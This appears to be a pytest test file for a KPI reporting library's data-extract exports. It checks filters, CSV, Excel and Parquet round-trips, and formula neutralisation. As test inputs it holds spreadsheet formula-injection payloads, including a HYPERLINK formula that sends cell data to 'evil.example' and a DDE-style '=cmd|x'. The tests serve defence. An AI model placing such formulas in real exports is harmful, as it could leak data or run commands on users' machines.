"""sendlib.presentation.extracts: filters hold exactly; every format holds the same rows; nothing runs as a formula."""

from __future__ import annotations

import io
import math

import openpyxl
import pandas as pd
import pytest

from sendlib.domain.periods import parse_period
from sendlib.domain.trends import summarise
from sendlib.files.readers import read_grid
from sendlib.files.wide import wide_cell
from sendlib.presentation.extracts import (
    DERIVED_COLUMNS,
    EXPORT_COLUMNS,
    ExtractError,
    ExtractQuery,
    build_extract,
    export_bytes,
    extract,
    neutralise,
    to_bytes,
    to_csv_bytes,
    to_xlsx_bytes,
)
from sendlib.workflows.load import preview_bytes

# --- filters -------------------------------------------------------------------------------------


def test_no_filter_gives_every_row(table, catalogue):
    out = extract(table, catalogue)
    assert list(out.columns) == EXPORT_COLUMNS
    assert len(out) == len(table)


def test_theme_filter(table, catalogue):
    out = extract(table, catalogue, ExtractQuery(themes=["tribunals", "education"]))
    ids = {k.id for k in catalogue if k.theme in ("tribunals", "education")}
    assert len(out) == int(table["kpi_id"].isin(ids).sum())
    assert set(out["theme"]) == {"tribunals", "education"}
    assert set(out["kpi_id"]) <= ids


def test_kpi_filter(table, catalogue):
    out = extract(table, catalogue, ExtractQuery(kpis=["complaints", "b04-20-week-rate-excl-exceptions"]))
    assert set(out["kpi_id"]) == {"complaints", "b04-20-week-rate-excl-exceptions"}
    # complaints: 14 months Dec 23 - Jan 25; b04: Mar-24, Feb-24 and the target.
    assert len(out) == 14 + 3


def test_series_filter(table, catalogue):
    out = extract(table, catalogue, ExtractQuery(series=["national", "regional"]))
    assert set(out["series"]) == {"national", "regional"}
    assert len(out) == int(table["series"].isin(["national", "regional"]).sum())
    assert (out["period"] == "").all()


def test_scorecard_filter(table, catalogue):
    out = extract(table, catalogue, ExtractQuery(scorecard="board"))
    assert set(out["scorecard"]) == {"board"}
    assert len(out) == int((table["scorecard"] == "board").sum())


def test_period_range_of_months(table, catalogue):
    out = extract(table, catalogue, ExtractQuery(scorecard="scorecard", period_from="2024-04", period_to="2024-06"))
    assert set(out["period"]) == {"2024-04", "2024-05", "2024-06"}
    assert len(out) == int(table["period"].isin(["2024-04", "2024-05", "2024-06"]).sum())


def test_period_range_accepts_any_spelling(table, catalogue):
    canonical = extract(table, catalogue, ExtractQuery(period_from="2024-04", period_to="2024-06"))
    typed = extract(table, catalogue, ExtractQuery(period_from="Apr 24", period_to="June 2024"))
    pd.testing.assert_frame_equal(canonical, typed)


def test_period_range_of_one_month_holds_only_that_month(table, catalogue):
    # Asked for January 2024 only, the extract must not bring the calendar year 2024 (board measures
    # 28-31, Jan-Dec 2024) or the half-term Spring 1 2023/24 (Jan-Feb 2024): they are not within it.
    out = extract(table, catalogue, ExtractQuery(period_from="2024-01", period_to="2024-01"))
    assert set(out["period"]) == {"2024-01"}


def test_filters_combine(table, catalogue):
    query = ExtractQuery(themes=["tribunals"], kpis=["complaints", "ehcps"], series=["actual"], period_from="2024-12")
    out = extract(table, catalogue, query)
    # ehcps is not in the tribunals theme; complaints from Dec 24: Dec 24 and Jan 25.
    assert out[["kpi_id", "period"]].values.tolist() == [["complaints", "2024-12"], ["complaints", "2025-01"]]


def test_extract_adds_names_theme_and_unit(table, catalogue):
    out = extract(table, catalogue, ExtractQuery(kpis=["parent-requests-primary"]))
    assert out["kpi_name"].str.contains("% request from parents").all()
    assert set(out["unit"]) == {"count"}


# --- formula neutralisation ----------------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("x")', "+1", "@x", "-x", "=1+2", "\tx"]


def _frame(notes: list[str]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "kpi_id": ["k"] * len(notes),
            "period": ["2024-01"] * len(notes),
            "value": [-1.5] * len(notes),
            "note": notes,
        }
    )


@pytest.mark.parametrize("text", DANGEROUS)
def test_neutralise_prefixes_formula_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-1.5", "12", "ordinary note", -1.5, 3, None])
def test_neutralise_leaves_numbers_and_plain_text(value):
    assert neutralise(value) == value


def test_csv_has_a_bom():
    assert to_csv_bytes(_frame(["requested"])).startswith(b"\xef\xbb\xbf")


def _csv_notes(notes: list[str]) -> list[str]:
    back = pd.read_csv(io.BytesIO(to_csv_bytes(_frame(notes))), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert set(back["value"]) == {"-1.5"}  # the numeric column is never touched
    return back["note"].tolist()


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_neutralises_formula_text(text):
    assert _csv_notes([text]) == ["'" + text]


@pytest.mark.parametrize("text", ["-1.5", "requested", "n/a", "KPI changed-see below"])
def test_csv_leaves_numbers_and_plain_text(text):
    assert _csv_notes([text]) == [text]


def test_csv_keeps_the_arrows_and_quotes_readable(table, catalogue):
    out = extract(table, catalogue, ExtractQuery(kpis=["b21-parent-feedback-views-taken-into-account"]))
    text = to_csv_bytes(out).decode("utf-8-sig")
    assert "‘to what extent" in text


def test_xlsx_opens_with_bold_frozen_header_and_no_formulas():
    data = to_xlsx_bytes(_frame([*DANGEROUS, "ordinary"]))
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book.active
    assert [c.value for c in ws[1]] == ["kpi_id", "period", "value", "note"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    notes = [ws.cell(row=r, column=4).value for r in range(2, ws.max_row + 1)]
    assert notes[0] == "'=HYPERLINK(\"x\")"
    assert ws.cell(row=2, column=3).value == -1.5  # a real number, not text


def test_xlsx_with_about_sheet(table, catalogue):
    out = extract(table, catalogue, ExtractQuery(kpis=["complaints"]))
    data = to_bytes(out, "xlsx", about={"Source": "=cmd|x", "Rows": str(len(out))})
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["About", "Data"]
    assert book["About"]["B1"].value == "'=cmd|x"
    assert book["Data"].max_row == len(out) + 1


def test_parquet_round_trips(table, catalogue):
    out = extract(table, catalogue)
    back = pd.read_parquet(io.BytesIO(to_bytes(out, "parquet")))
    pd.testing.assert_frame_equal(back, out, check_dtype=False)
    assert back["value"].dtype == out["value"].dtype


def test_unknown_format_is_refused(table, catalogue):
    with pytest.raises(ValueError, match="pdf"):
        to_bytes(extract(table, catalogue), "pdf")  # type: ignore[arg-type]


def _as_text(frame: pd.DataFrame) -> list[tuple]:
    """Every cell as text, with numbers in one spelling, so formats can be compared."""

    def cell(v):
        if v is None or v is pd.NA or (isinstance(v, float) and math.isnan(v)) or v == "":
            return ""
        if isinstance(v, (int, float)):
            return repr(float(v))
        try:
            return repr(float(v))
        except ValueError:
            pass
        if v.endswith("%"):  # the wide layout's `50%` and `50.0%` are one value
            try:
                return repr(float(v[:-1])) + "%"
            except ValueError:
                pass
        return v

    return sorted(tuple(cell(v) for v in row) for row in frame[list(frame.columns)].itertuples(index=False))


def xlsx_frame(data: bytes, sheet: str = "Data") -> pd.DataFrame:
    """The data sheet as a person sees it: a %-formatted 0.492 is 49.2 (as the upload reader takes it)."""
    ws = openpyxl.load_workbook(io.BytesIO(data))[sheet]
    rows = [[round(c.value * 100, 10) if isinstance(c.value, (int, float)) and "%" in c.number_format else c.value
             for c in row] for row in ws.iter_rows()]
    return pd.DataFrame(rows[1:], columns=rows[0], dtype=object)


def read_back(data: bytes, fmt: str, layout: str = "long") -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    if fmt == "xlsx" and layout == "wide":
        grid = read_grid(data, "extract.xlsx", sheet="Data")  # `49.2%` as the upload reader gives it
        return pd.DataFrame(grid.rows[1:], columns=grid.rows[0], dtype=object)
    if fmt == "xlsx":
        return xlsx_frame(data)
    return pd.read_parquet(io.BytesIO(data))


QUERIES = [
    ExtractQuery(themes=["tribunals", "education", "quality"]),
    ExtractQuery(themes=["statutory-duty"], period_from="2024-04", period_to="2024-09", derived=True),
    ExtractQuery(scorecard="board", series=["actual", "target"], derived=True),
    ExtractQuery(layout="wide"),
    ExtractQuery(layout="wide", themes=["provision"], period_from="2024-06", period_to="2024-12"),
]


@pytest.mark.parametrize("query", QUERIES, ids=lambda q: q.model_dump_json(exclude_defaults=True))
def test_each_format_holds_the_same_rows(table, catalogue, query):
    ext = build_extract(table, catalogue, query)
    expected = _as_text(ext.rows)
    assert len(expected) == len(ext.rows) > 0
    for fmt in ("csv", "xlsx", "parquet"):
        back = read_back(export_bytes(ext, catalogue, fmt, version="000002"), fmt, query.layout)
        assert list(back.columns) == list(ext.rows.columns), fmt
        assert _as_text(back) == expected, fmt


# --- filters hold exactly, in every format -------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_filters_hold_exactly_in_the_file(table, catalogue, fmt):
    query = ExtractQuery(themes=["statutory-duty", "sendiass"], period_from="2024-03", period_to="2024-08",
                         series=["actual"])
    ext = build_extract(table, catalogue, query)
    back = read_back(export_bytes(ext, catalogue, fmt, version="1"), fmt)
    ids = {k.id for k in catalogue if k.theme in ("statutory-duty", "sendiass")}
    in_range = table["period"].map(lambda p: bool(p) and "2024-03" <= p <= "2024-08" and len(p) == 7)
    # board half-terms and terms inside Mar-Aug 2024 are within the range too
    in_range |= table["period"].map(
        lambda p: bool(p) and len(p) > 7 and parse_period(p).start >= parse_period("2024-03").start
        and parse_period(p).end <= parse_period("2024-08").end
    )
    expected = table[table["kpi_id"].isin(ids) & in_range & (table["series"] == "actual")]
    assert len(back) == len(expected) > 0
    assert set(back["theme"]) == {"statutory-duty", "sendiass"}
    assert set(back["series"]) == {"actual"}
    for period in set(back["period"]):
        p = parse_period(period)
        assert p.start >= parse_period("2024-03").start and p.end <= parse_period("2024-08").end, period


def test_a_wide_extract_holds_only_the_chosen_months_and_theme(table, catalogue):
    ext = build_extract(table, catalogue, ExtractQuery(layout="wide", themes=["tribunals"], period_from="2024-10",
                                                       period_to="2024-12"))
    assert list(ext.rows.columns) == ["KPI", "Oct 24", "Nov 24", "Dec 24", "Nat", "SN", "SW", "Target"]
    assert set(ext.long["theme"]) == {"tribunals"}
    named = {catalogue[k].name for k in ext.long["kpi_id"]}
    kpi_rows = [n for n in ext.rows["KPI"] if n in named]
    assert len(kpi_rows) == ext.long["kpi_id"].nunique()


def test_a_backwards_period_range_is_refused(table, catalogue):
    with pytest.raises(ExtractError, match="after it ends"):
        build_extract(table, catalogue, ExtractQuery(period_from="2025-01", period_to="2024-01"))


@pytest.mark.parametrize(
    ("query", "words"),
    [
        (ExtractQuery(themes=["nope"]), "unknown theme"),
        (ExtractQuery(kpis=["nope"]), "unknown KPI"),
        (ExtractQuery(series=["nope"]), "unknown series"),
        (ExtractQuery(period_from="Smarch 24"), "Smarch"),
    ],
)
def test_bad_filters_are_refused_in_words(table, catalogue, query, words):
    with pytest.raises(ExtractError, match=words):
        build_extract(table, catalogue, query)


# --- harmless in Excel ---------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


def test_a_formula_note_comes_out_as_harmless_text_in_every_format(table, catalogue):
    poisoned = table.copy()
    row = poisoned.index[(poisoned["kpi_id"] == "complaints") & (poisoned["period"] == "2025-01")][0]
    poisoned.loc[row, "note"] = HYPERLINK
    poisoned.loc[poisoned.index[poisoned["kpi_id"] == "compliments"][0], "note"] = "@SUM(1+1)"
    ext = build_extract(poisoned, catalogue, ExtractQuery(themes=["tribunals"]))

    text = export_bytes(ext, catalogue, "csv", version="1").decode("utf-8-sig")
    csv_back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert "'" + HYPERLINK in set(csv_back["note"])
    assert "'@SUM(1+1)" in set(csv_back["note"])
    for record in csv_back.to_dict("records"):
        for value in record.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value)

    book = openpyxl.load_workbook(io.BytesIO(export_bytes(ext, catalogue, "xlsx", version="1")))
    notes = [c.value for c in book["Data"]["G"]]
    assert "'" + HYPERLINK in notes
    for ws in book.worksheets:
        for cells in ws.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value.startswith("=")), cell.coordinate

    parquet_back = pd.read_parquet(io.BytesIO(export_bytes(ext, catalogue, "parquet", version="1")))
    assert HYPERLINK in set(parquet_back["note"])  # not Excel: the text as stored


def test_the_about_sheet_neutralises_a_formula_in_a_filter(table, catalogue):
    ext = build_extract(table, catalogue, ExtractQuery(kpis=["complaints"]))
    ext.notes.append("=1+1")
    book = openpyxl.load_workbook(io.BytesIO(export_bytes(ext, catalogue, "xlsx", version="1")))
    values = [c.value for c in book["About"]["B"]]
    assert "'=1+1" in values
    assert all(c.data_type != "f" for row in book["About"].iter_rows() for c in row)


# --- the workbook --------------------------------------------------------------------------------


def test_xlsx_about_sheet_bold_frozen_header_percentages_and_widths(table, catalogue):
    import datetime as dt

    query = ExtractQuery(themes=["provision"], period_from="2024-12", period_to="2025-01", derived=True)
    ext = build_extract(table, catalogue, query)
    when = dt.datetime(2025, 3, 4, 9, 30, tzinfo=dt.UTC)
    book = openpyxl.load_workbook(io.BytesIO(export_bytes(ext, catalogue, "xlsx", version="000002", extracted_at=when)))
    assert book.sheetnames == ["About", "Data"]
    about = {r[0]: r[1] for r in book["About"].iter_rows(values_only=True)}
    assert about["Themes"] == "Provision and placements"
    assert about["Periods from"] == "2024-12" and about["Periods to"] == "2025-01"
    assert about["Data version"] == "000002"
    assert about["Extracted at (UTC)"] == "2025-03-04 09:30:00"
    assert about["Derived columns"] == "Change, direction and RAG"
    assert about["Rows"] == str(len(ext.rows))

    ws = book["Data"]
    header = [c.value for c in ws[1]]
    assert header == [*EXPORT_COLUMNS, *DERIVED_COLUMNS]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    value_col, unit_col = header.index("value") + 1, header.index("unit") + 1
    seen = 0
    for r in range(2, ws.max_row + 1):
        cell = ws.cell(row=r, column=value_col)
        if ws.cell(row=r, column=unit_col).value == "percent" and cell.value is not None:
            assert "%" in cell.number_format and 0 <= cell.value <= 1
            seen += 1
        elif cell.value is not None:
            assert "%" not in cell.number_format
    assert seen > 0
    mainstream = [r for r in ws.iter_rows(min_row=2, values_only=True)
                  if r[1] == "ehcps-mainstream-pct" and r[2] == "2025-01" and r[3] == "actual"]
    assert mainstream and mainstream[0][4] == pytest.approx(0.492)
    widths = {ws.column_dimensions[c].width for c in "ABCDEFGH"}
    assert max(widths) > 20  # kpi names are wide; widths were set, not left at Excel's default


# --- derived columns -----------------------------------------------------------------------------


def test_derived_columns_match_the_summary(table, catalogue):
    """The latest row of every KPI carries the same change, direction and RAG as the theme pages show."""
    ext = build_extract(table, catalogue, ExtractQuery(derived=True, series=["actual"]))
    rows = ext.rows.set_index(["kpi_id", "period"])
    summary = summarise(table, catalogue)
    checked = 0
    for s in summary[summary["latest"].notna()].to_dict("records"):
        row = rows.loc[(s["kpi_id"], s["latest_period"])]
        if s["change"] is None or pd.isna(s["change"]):
            assert pd.isna(row["change"])
        else:
            assert row["change"] == pytest.approx(s["change"]), s["kpi_id"]
            assert row["compared_with"] == s["previous_period"]
            checked += 1
    assert checked > 50


def test_derived_columns_by_polarity_and_target(table, catalogue):
    ext = build_extract(table, catalogue, ExtractQuery(kpis=["complaints", "ehcps-special-independent-pct"],
                                                       period_from="2025-01", period_to="2025-01", derived=True))
    rows = ext.rows.set_index("kpi_id")
    # complaints: 12 in Dec 24, 13 in Jan 25; fewer complaints is better.
    assert rows.loc["complaints", "change"] == 1
    assert rows.loc["complaints", "compared_with"] == "2024-12"
    assert rows.loc["complaints", "direction"] == "▲ Up – worse"
    assert rows.loc["complaints", "rag"] == ""  # no target
    # 11.5% against a 5.0% target, lower is better.
    assert rows.loc["ehcps-special-independent-pct", "rag"] == "✖ Off target"
    assert rows.loc["ehcps-special-independent-pct", "direction"] == "▲ Up – worse"


def test_a_cumulative_total_compares_with_a_year_earlier(table, catalogue):
    ext = build_extract(table, catalogue, ExtractQuery(kpis=["mediations-cumulative"], derived=True))
    rows = ext.rows.set_index("period")
    assert rows.loc["2025-01", "compared_with"] == "2024-01"
    assert rows.loc["2024-01", "direction"] == "No comparison"  # the total restarted; no year-earlier figure


def test_derived_columns_are_blank_for_benchmarks(table, catalogue):
    ext = build_extract(table, catalogue, ExtractQuery(series=["national"], derived=True))
    assert len(ext.rows) > 0
    assert ext.rows["change"].isna().all() and ext.rows["direction"].isna().all()


# --- the wide layout -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "count", "note", "unit", "text"),
    [
        (49.2, None, None, "percent", "49.2%"),
        (0.04, None, None, "percent", "0.04%"),
        (14.3, 10, None, "percent", "14.3% (10)"),
        (7143.0, None, None, "count", "7143"),
        (270.0, None, None, "days", "38 weeks 4 days"),
        (-1.17, None, None, "score", "-1.17"),
        (None, None, "requested", "count", "requested"),
        (None, None, "KPI changed-see below", "percent", "KPI changed-see below"),
        (None, None, "-", "count", "–"),
        (None, None, "arrow ▲ with no value", "count", "▲"),
        (31.6, None, "read 0.316 as a fraction: 31.6%", "percent", "0.316"),
        (5.0, None, "an explanation", "count", None),
        (None, None, HYPERLINK, "count", None),
        (None, None, None, "count", None),
    ],
)
def test_wide_cells_read_back_as_they_were(value, count, note, unit, text):
    assert wide_cell(value, count, note, unit) == text


def test_wide_layout_is_the_scorecards_shape(table, catalogue):
    ext = build_extract(table, catalogue, ExtractQuery(layout="wide"))
    rows = ext.rows
    months = [c for c in rows.columns[1:] if c not in ("Nat", "SN", "SW", "Target")]
    assert rows.columns[0] == "KPI"
    assert list(rows.columns[-4:]) == ["Nat", "SN", "SW", "Target"]
    assert months[0] == "Dec 23" and months[-1] == "Feb 25" and len(months) == 15
    starts = [parse_period(m).start for m in months]
    assert starts == sorted(starts)
    names = rows["KPI"].tolist()
    assert names[0] == "EHCPs and SEN Support"  # a section row first, with nothing else in it
    assert rows.iloc[0, 1:].isna().all()
    for kpi in catalogue.for_scorecard("scorecard"):
        if kpi.parent_id:
            parent_at = names.index(catalogue[kpi.parent_id].name)
            between = names[parent_at + 1:names.index(kpi.name, parent_at)]
            assert all(n.lower().startswith("no of above") for n in between), kpi.id
    row = rows.set_index("KPI").loc["% of EHCPs in Mainstream"]
    assert (row["Jan 25"], row["Nat"], row["SN"], row["SW"]) == ("49.2%", "43.3%", "41.2%", "43.8%")
    assert not any("board" in n.lower() and "value" not in n for n in ext.notes)
    assert any("improvement board" in n for n in ext.notes)  # the board's values are left out, and it says so


def test_wide_breakdown_alone_brings_its_parent(table, catalogue):
    child = next(k for k in catalogue.for_scorecard("scorecard") if k.parent_id)
    ext = build_extract(table, catalogue, ExtractQuery(layout="wide", kpis=[child.id]))
    names = ext.rows["KPI"].tolist()
    assert names[-2:] == [catalogue[child.parent_id].name, child.name]


def test_wide_layout_for_the_board_is_refused(table, catalogue):
    with pytest.raises(ExtractError, match="long layout"):
        build_extract(table, catalogue, ExtractQuery(layout="wide", scorecard="board"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_wide_extract_loads_back_with_no_changes(store, catalogue, fmt):
    table = store.read()
    ext = build_extract(table, catalogue, ExtractQuery(layout="wide"))
    data = export_bytes(ext, catalogue, fmt, version=store.head())
    preview = preview_bytes(data, f"extract.{fmt}", store, catalogue)  # no sheet named: the upload finds the Data sheet itself
    assert preview.layout == "wide"
    assert preview.errors == []
    assert (preview.new, preview.revised) == (0, 0)
    assert preview.unchanged == int((table["scorecard"] == "scorecard").sum()) == len(ext.long)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_filtered_wide_extract_loads_back_with_no_changes(store, catalogue, fmt):
    ext = build_extract(store.read(), catalogue, ExtractQuery(layout="wide", themes=["tribunals", "early-years"],
                                                              period_from="2024-02", period_to="2024-11"))
    data = export_bytes(ext, catalogue, fmt, version=store.head())
    preview = preview_bytes(data, f"extract.{fmt}", store, catalogue, sheet="Data" if fmt == "xlsx" else None)
    assert preview.errors == [] and (preview.new, preview.revised) == (0, 0)
    assert preview.unchanged == len(ext.long) > 0


def test_wide_xlsx_percentages_are_numbers_formatted_as_percent(table, catalogue):
    ext = build_extract(table, catalogue, ExtractQuery(layout="wide", kpis=["ehcps-mainstream-pct", "ehcps"]))
    data = export_bytes(ext, catalogue, "xlsx", version="1")
    ws = openpyxl.load_workbook(io.BytesIO(data))["Data"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "% of EHCPs in Mainstream")
    jan = row[header.index("Jan 25")]
    assert jan.value == pytest.approx(0.492) and "%" in jan.number_format
    ehcps = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "No. of EHCPs")
    assert ehcps[header.index("Jan 25")].value == 4453
    assert ws.freeze_panes == "B2"
    grid = read_grid(data, "x.xlsx", sheet="Data")  # the upload reader sees what a person sees
    assert "49.2%" in next(r for r in grid.rows if r[0] == "% of EHCPs in Mainstream")
